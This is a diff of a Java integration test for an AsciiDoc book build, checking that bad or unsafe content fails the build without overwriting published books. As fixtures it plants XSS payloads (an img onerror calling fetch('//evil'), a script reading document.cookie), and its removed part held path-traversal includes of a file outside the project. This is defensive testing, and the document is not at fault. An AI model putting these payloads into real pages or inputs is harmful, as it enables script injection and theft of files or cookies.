@@ -1,123 +1,171 @@
 package io.github.awsnetbook.booktests;
 
-import static org.junit.jupiter.api.Assertions.assertArrayEquals;
+import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import java.io.IOException;
+import java.io.UncheckedIOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
-import java.util.regex.Pattern;
+import java.security.MessageDigest;
+import java.security.NoSuchAlgorithmException;
+import java.util.ArrayList;
+import java.util.HexFormat;
+import java.util.List;
+import java.util.Map;
+import java.util.TreeMap;
+import java.util.stream.Stream;
+import org.jsoup.Jsoup;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.CsvSource;
 
-/** Bad content fails the build with a message naming the file and line, and loses nothing. */
+/**
+ * Bad content fails the build with a message naming the file and line, and loses nothing: the last
+ * good book stays, no temporary file is left beside it, no source is changed.
+ */
 class BrokenContentIT {
 
-  private static final String CHAPTER = "content-ja/src/docs/asciidoc/chapters/_article-0003.adoc";
+  private static final String JA_CHAPTER =
+      "content-ja/src/docs/asciidoc/chapters/_article-0003.adoc";
+  private static final String EN_CHAPTER =
+      "content-en/src/docs/asciidoc/chapters/_article-0003.adoc";
 
+  /**
+   * One build of both locales, each built even when the other fails. The source (ja), saved with a
+   * byte-order mark, CRLF line ends and tabs on its blank lines, gets three things Asciidoctor
+   * warns about (a cross reference to a missing ID, a missing attribute, an unterminated block):
+   * every check before the conversion passes, the conversion reads the file as without them (every
+   * phrase on the page), and its warnings fail the build, each naming its file and line. The
+   * translation (en) adds raw HTML its source does not have: the source check refuses it at its
+   * line and column. Neither replaces the last good book.
+   *
+   * <p>How raw content is compared with the source is tested in book-tools (RawContentTest); this
+   * build proves the conversion's warnings and the source check fail the real build.
+   */
   @Test
-  void aMissingIncludeFailsTheBuildNamingFileAndLine(@TempDir Path folder) throws IOException {
+  void contentWarningsAndAddedRawHtmlFailTheBuildNamingFileAndLineAndLoseNothing(
+      @TempDir Path folder) throws IOException {
     TempBuild build = TempBuild.copyOfProject(folder);
-    String chapter = build.read(CHAPTER);
-    int line = (int) chapter.lines().count() + 2;
-    build.write(CHAPTER, chapter + "\ninclude::_no-such-section.adoc[]\n");
-    byte[] sourceBefore = Files.readAllBytes(build.resolve(CHAPTER));
-
-    TempBuild.Result result = build.packageLocale("ja");
-
-    assertTrue(result.failed(), "the build succeeded with a missing include:\n" + result.log());
-    assertTrue(
-        // Every check reads the book through one parse (the source model), which reports a
-        // missing include once, in the compiler's format.
-        Pattern.compile(
-                "content-ja/src/docs/asciidoc/chapters/_article-0003\\.adoc:"
-                    + line
-                    + ":1: error: include file not found")
-            .matcher(result.log())
-            .find(),
-        "the log does not name the file and line " + line + ":\n" + result.log());
-    assertFalse(
-        Files.exists(build.resolve("content-ja/target/pdf/aws-network-ja.pdf")),
-        "a failed build published a PDF");
-    assertFalse(
-        Files.exists(build.resolve("content-ja/target/html/ja/index.html")),
-        "a failed build published an HTML page");
-    assertArrayEquals(
-        sourceBefore, Files.readAllBytes(build.resolve(CHAPTER)), "the build changed its source");
-  }
-
-  @ParameterizedTest
-  @CsvSource(
-      delimiter = '|',
-      value = {
-        "<<no-such-section>> を参照。 | cross reference to a missing ID: no-such-section",
-        "{no-such-attribute} の値。 | reference to a missing attribute: {no-such-attribute}",
-        "====\\n閉じていない例のブロック | unterminated example block"
-      })
-  void aContentWarningFailsTheBuildNamingFileAndLine(
-      String planted, String message, @TempDir Path folder) {
-    TempBuild build = TempBuild.copyOfProject(folder);
-    String chapter = build.read(CHAPTER);
-    int line = (int) chapter.lines().count() + 2;
-    build.write(CHAPTER, chapter + "\n" + planted.replace("\\n", "\n") + "\n");
-
-    TempBuild.Result result = build.packageLocale("ja");
-
-    assertTrue(result.failed(), "the build succeeded with: " + planted + "\n" + result.log());
-    assertTrue(result.log().contains(message), "no \"" + message + "\" in:\n" + result.log());
-    assertTrue(
-        result.log().contains("_article-0003.adoc: line " + line),
-        "the log does not name the file and line " + line + ":\n" + result.log());
-  }
-
-  @Test
-  void anIncludeOfASystemFileIsRefusedAndNeverPublished(@TempDir Path folder) throws IOException {
-    TempBuild build = TempBuild.copyOfProject(folder);
-    Path secret =
-        Files.writeString(
-            Files.createTempFile("outside-the-project", ".txt"), "TOP-SECRET-OUTSIDE-THE-PROJECT");
-    try {
-      String chapter = build.read(CHAPTER);
-      int line = (int) chapter.lines().count() + 2;
-      build.write(
-          CHAPTER,
-          chapter
-              + "\ninclude::"
-              + secret.toAbsolutePath()
-              + "[]\n"
-              + "\ninclude::../../../../../../../../../../.."
-              + secret.toAbsolutePath()
-              + "[]\n");
-
-      TempBuild.Result result = build.packageLocale("ja");
-
-      assertTrue(result.failed(), "an include outside the project was accepted:\n" + result.log());
-      // Refused before conversion, at the include's line, by the source check.
-      assertTrue(
-          result
-              .log()
-              .contains(
-                  CHAPTER
-                      + ":"
-                      + line
-                      + ":1: error: the include target "
-                      + secret.toAbsolutePath()
-                      + " is outside the repository"),
-          result.log());
+    String ja = build.read(JA_CHAPTER);
+    int warned = (int) ja.lines().count() + 2;
+    String planted =
+        ja + "\n<<no-such-section>> を参照。\n\n{no-such-attribute} の値。\n\n====\n閉じていない例のブロック\n";
+    build.write(JA_CHAPTER, "\uFEFF" + planted.replace("\n\n", "\n\t\n").replace("\n", "\r\n"));
+    String en = build.read(EN_CHAPTER);
+    int raw = (int) en.lines().count() + 2;
+    build.write(
+        EN_CHAPTER,
+        en
+            + "\nRead pass:[<img src=x onerror=\"fetch('//evil')\">] now.\n"
+            + "\n++++\n<script>alert(document.cookie)</script>\n++++\n");
+    List<String> published = new ArrayList<>();
+    for (String lang : List.of("ja", "en")) {
       for (String output :
-          new String[] {
-            "content-ja/target/staging/html/index.html", "content-ja/target/html/ja/index.html"
-          }) {
-        Path page = build.resolve(output);
-        assertFalse(
-            Files.exists(page) && Files.readString(page).contains("TOP-SECRET"),
-            output + " carries the content of a file outside the project");
+          List.of(
+              "content-" + lang + "/target/html/" + lang + "/index.html",
+              "content-" + lang + "/target/pdf/aws-network-" + lang + ".pdf")) {
+        Files.createDirectories(build.resolve(output).getParent());
+        build.write(output, "the last good " + output);
+        published.add(output);
       }
-    } finally {
-      Files.deleteIfExists(secret);
+    }
+    Map<String, String> sourcesBefore = fingerprints(build.root());
+
+    TempBuild.Result result = build.packageLocales(List.of("ja", "en"));
+
+    assertTrue(result.failed(), "the build succeeded:\n" + result.log());
+    assertWarnedAt(result, warned, "cross reference to a missing ID: no-such-section");
+    assertWarnedAt(result, warned + 2, "reference to a missing attribute: {no-such-attribute}");
+    assertWarnedAt(result, warned + 4, "unterminated example block");
+    assertLogged(
+        result,
+        EN_CHAPTER
+            + ":"
+            + raw
+            + ":6: error: an inline passthrough pass:[] that"
+            + " the source (content-ja) does not have");
+    assertLogged(result, EN_CHAPTER + ":" + (raw + 2) + ":1: error: a passthrough block (++++)");
+    for (String output : published) {
+      assertEquals("the last good " + output, build.read(output), output + " was replaced");
+    }
+    for (String lang : List.of("ja", "en")) {
+      assertEquals(
+          Map.of(),
+          leftovers(build.resolve("content-" + lang + "/target")),
+          "temporary files were left beside the published books");
+    }
+    assertEquals(sourcesBefore, fingerprints(build.root()), "the build changed files under src/");
+    theSourceWithAByteOrderMarkCrlfAndTabsIsConvertedAsWithout(build);
+  }
+
+  /**
+   * The converted page (in staging: the build failed after the conversion, on its warnings) has
+   * every phrase of the article and no byte-order mark.
+   */
+  private static void theSourceWithAByteOrderMarkCrlfAndTabsIsConvertedAsWithout(TempBuild build) {
+    String page = Jsoup.parse(build.read("content-ja/target/staging/html/index.html")).text();
+    assertFalse(page.contains("\uFEFF"), "the byte-order mark reached the page");
+    for (Phrases phrase : Phrases.ofArticle0003()) {
+      assertTrue(
+          PdfText.unwrapped(page).contains(PdfText.unwrapped(phrase.ja())),
+          "missing from the page: " + phrase.ja());
+    }
+  }
+
+  /** A line of the log names the chapter and the line, in the compiler's format, and the message. */
+  private static void assertWarnedAt(TempBuild.Result result, int line, String message) {
+    String place = JA_CHAPTER + ":" + line + ":1: error: ";
+    assertTrue(
+        result.log().lines().anyMatch(logged -> logged.contains(place) && logged.contains(message)),
+        "no \"" + message + "\" at \"" + place + "\" in:\n" + result.log());
+  }
+
+  private static void assertLogged(TempBuild.Result result, String message) {
+    assertTrue(result.log().contains(message), "no \"" + message + "\" in:\n" + result.log());
+  }
+
+  /** SHA-256 of every file under a src folder of the project, by path. */
+  private static Map<String, String> fingerprints(Path root) {
+    Map<String, String> sums = new TreeMap<>();
+    try (Stream<Path> files = Files.walk(root)) {
+      files
+          .filter(Files::isRegularFile)
+          .filter(file -> root.relativize(file).toString().contains("/src/"))
+          .forEach(file -> sums.put(root.relativize(file).toString(), sha256(file)));
+    } catch (IOException e) {
+      throw new UncheckedIOException(e);
+    }
+    return sums;
+  }
+
+  /** Files in the published folders that are not finished books: temporary or partial. */
+  private static Map<String, Long> leftovers(Path target) {
+    Map<String, Long> found = new TreeMap<>();
+    for (String published : new String[] {"html", "pdf"}) {
+      try (Stream<Path> files = Files.walk(target.resolve(published))) {
+        files
+            .filter(Files::isRegularFile)
+            .filter(
+                file ->
+                    file.getFileName().toString().endsWith(".tmp")
+                        || file.getFileName().toString().startsWith("."))
+            .forEach(file -> found.put(target.relativize(file).toString(), file.toFile().length()));
+      } catch (IOException e) {
+        throw new UncheckedIOException(e);
+      }
+    }
+    return found;
+  }
+
+  private static String sha256(Path file) {
+    try {
+      return HexFormat.of()
+          .formatHex(MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(file)));
+    } catch (NoSuchAlgorithmException e) {
+      throw new IllegalStateException(e);
+    } catch (IOException e) {
+      throw new UncheckedIOException(e);
     }
   }
 }
